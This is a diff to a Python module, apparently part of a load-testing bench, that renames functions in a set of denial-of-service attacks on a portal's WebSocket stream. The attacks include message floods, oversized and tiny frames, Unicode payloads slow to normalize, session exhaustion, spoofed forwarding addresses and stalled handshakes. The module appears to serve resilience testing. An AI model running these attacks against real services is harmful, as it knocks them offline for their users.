@@ -1,4 +1,4 @@
-"""Attacks on the WebSocket of a portal; each runs until it is killed or refused."""
+"""Attacks on the WebSocket of a portal. Each runs until it is killed or refused."""
 
 import time
 from contextlib import suppress
@@ -11,7 +11,7 @@ from bench.target import ATTACKER, Target
 from web.streamlit_compat import BackMsg
 
 
-def _session(target: Target, address: str = ATTACKER) -> ClientConnection:
+def _open_session(target: Target, address: str = ATTACKER) -> ClientConnection:
     return connect(
         f"ws://{target.host}/_stcore/stream",
         subprotocols=[Subprotocol("streamlit")],
@@ -25,14 +25,14 @@ def _session(target: Target, address: str = ATTACKER) -> ClientConnection:
     )
 
 
-def _message(**fields: object) -> bytes:
+def _make_message(**fields: object) -> bytes:
     message = BackMsg()
     for name, value in fields.items():
         setattr(message, name, value)
     return bytes(message.SerializeToString())
 
 
-def _rerun(**fields: object) -> bytes:
+def _make_rerun(**fields: object) -> bytes:
     message = BackMsg()
     message.rerun_script.SetInParent()
     for name, value in fields.items():
@@ -40,51 +40,51 @@ def _rerun(**fields: object) -> bytes:
     return bytes(message.SerializeToString())
 
 
-def git_info(target: Target) -> None:
-    """Ask for information on the repository 1,000 times, 8 bytes each."""
-    with _session(target) as connection:
+def request_git_info(target: Target) -> None:
+    """Request git information 1,000 times, with 8 bytes each."""
+    with _open_session(target) as connection:
         for _ in range(1000):
-            connection.send(_message(load_git_info=True))
+            connection.send(_make_message(load_git_info=True))
         time.sleep(5)
 
 
-def trickle(target: Target) -> None:
-    """Ask for information on the repository, 469 bytes a second."""
-    with _session(target) as connection:
+def trickle_git_info(target: Target) -> None:
+    """Request git information with 469 bytes a second."""
+    with _open_session(target) as connection:
         while True:
-            connection.send(_message(load_git_info=True))
+            connection.send(_make_message(load_git_info=True))
             time.sleep(8 / 469)
 
 
-def empty_runs(target: Target) -> None:
-    """Ask for 5,000 reruns of the page."""
-    with _session(target) as connection:
+def request_empty_runs(target: Target) -> None:
+    """Request 5,000 reruns of the page."""
+    with _open_session(target) as connection:
         for _ in range(5000):
-            connection.send(_rerun())
+            connection.send(_make_rerun())
         time.sleep(5)
 
 
-def many_runs(target: Target) -> None:
-    """Ask for 270 reruns a second on each of 20 connections."""
-    connections = [_session(target) for _ in range(20)]
+def request_many_runs(target: Target) -> None:
+    """Request 270 reruns a second on each of 20 connections."""
+    connections = [_open_session(target) for _ in range(20)]
     while True:
         for connection in connections:
-            connection.send(_rerun())
+            connection.send(_make_rerun())
         time.sleep(1 / 270)
 
 
-def four_addresses(target: Target) -> None:
+def rerun_from_four_addresses(target: Target) -> None:
     """Rerun the page as often as allowed, in one tab at each of four addresses."""
-    connections = [_session(target, f"203.0.113.{number}") for number in range(101, 105)]
+    connections = [_open_session(target, f"203.0.113.{number}") for number in range(101, 105)]
     while True:
         for connection in connections:
-            connection.send(_rerun())
+            connection.send(_make_rerun())
         time.sleep(1 / 20)
 
 
-def big_messages(target: Target) -> None:
-    """Send widgets that do not exist, with ids of 7.9 MB."""
-    with _session(target) as connection:
+def send_big_messages(target: Target) -> None:
+    """Send values of widgets that do not exist, with ids of 7.9 MB."""
+    with _open_session(target) as connection:
         while True:
             message = BackMsg()
             widget = message.rerun_script.widget_states.widgets.add()
@@ -93,29 +93,29 @@ def big_messages(target: Target) -> None:
             time.sleep(0.1)
 
 
-def tiny_frames(target: Target) -> None:
-    """Send frames of two bytes, as many as a connection accepts, then open another one."""
-    with _session(target) as connection:
+def send_tiny_frames(target: Target) -> None:
+    """Send frames of two bytes until the connection is refused."""
+    with _open_session(target) as connection:
         connection.socket.settimeout(1)
         connection.socket.sendall(b"\x82\x82\0\0\0\0\x38\x01" * 100_000)
 
 
-def sessions(target: Target) -> None:
+def open_sessions(target: Target) -> None:
     """Open as many sessions as one address may have."""
     connections = []
     with suppress(OSError, WebSocketException):
         for _ in range(199):
-            connections.append(_session(target))
-            connections[-1].send(_rerun())
+            connections.append(_open_session(target))
+            connections[-1].send(_make_rerun())
     while True:
         for connection in connections:
-            connection.send(_rerun())
+            connection.send(_make_rerun())
             time.sleep(0.02)
 
 
-def many_parts(target: Target) -> None:
+def send_many_widgets(target: Target) -> None:
     """Send messages below every size limit, with as many widget values as fit."""
-    connections = [_session(target) for _ in range(4)]
+    connections = [_open_session(target) for _ in range(4)]
     message = BackMsg()
     for _ in range(120_000):
         message.rerun_script.widget_states.widgets.add()
@@ -126,38 +126,38 @@ def many_parts(target: Target) -> None:
         time.sleep(0.1)
 
 
-def marks(target: Target) -> None:
+def send_combining_marks(target: Target) -> None:
     """Open links with combining marks that take quadratic time to sort."""
-    with _session(target) as connection:
+    with _open_session(target) as connection:
         text = "a" + "\u0301" * 16_000 + "\u0316" * 16_000
         while True:
-            connection.send(_rerun(query_string=f"description={text}"))
+            connection.send(_make_rerun(query_string=f"description={text}"))
             time.sleep(0.2)
 
 
-def joiners(target: Target) -> None:
+def send_joiners(target: Target) -> None:
     """Open links with the texts that take longest to normalize, in 40 tabs."""
     text = ("\u0ba8\u0bcd\ufdfa\u0915\u094d\u200d\u0130" * 1500)[:10_000]
-    connections = [_session(target) for _ in range(40)]
+    connections = [_open_session(target) for _ in range(40)]
     while True:
         for number, connection in enumerate(connections):
-            # Another one each time: the same is not cleaned again.
-            connection.send(_rerun(query_string=f"description={number}{time.time()}{text}"))
+            # Each text is new, because the portal caches cleaned texts.
+            connection.send(_make_rerun(query_string=f"description={number}{time.time()}{text}"))
         time.sleep(0.05)
 
 
-def hung_handshakes(target: Target) -> None:
-    """Send WebSocket handshakes that websockets refuses after uvicorn accepts them."""
+def send_failing_handshakes(target: Target) -> None:
+    """Send handshakes that uvicorn accepts and websockets then refuses."""
     request = (
         f"GET /_stcore/stream HTTP/1.1\r\nHost: {target.host}\r\n"
         f"X-Forwarded-For: {ATTACKER}\r\n"
         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
         "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nContent-Length: 5\r\n\r\n"
     ).encode()
-    held = []
+    connections = []
     while True:
-        held.append(target.connect(ATTACKER))
-        held[-1].sendall(request)
-        if len(held) > 5_000:
-            held.pop(0).close()
+        connections.append(target.connect(ATTACKER))
+        connections[-1].sendall(request)
+        if len(connections) > 5_000:
+            connections.pop(0).close()
         time.sleep(0.02)
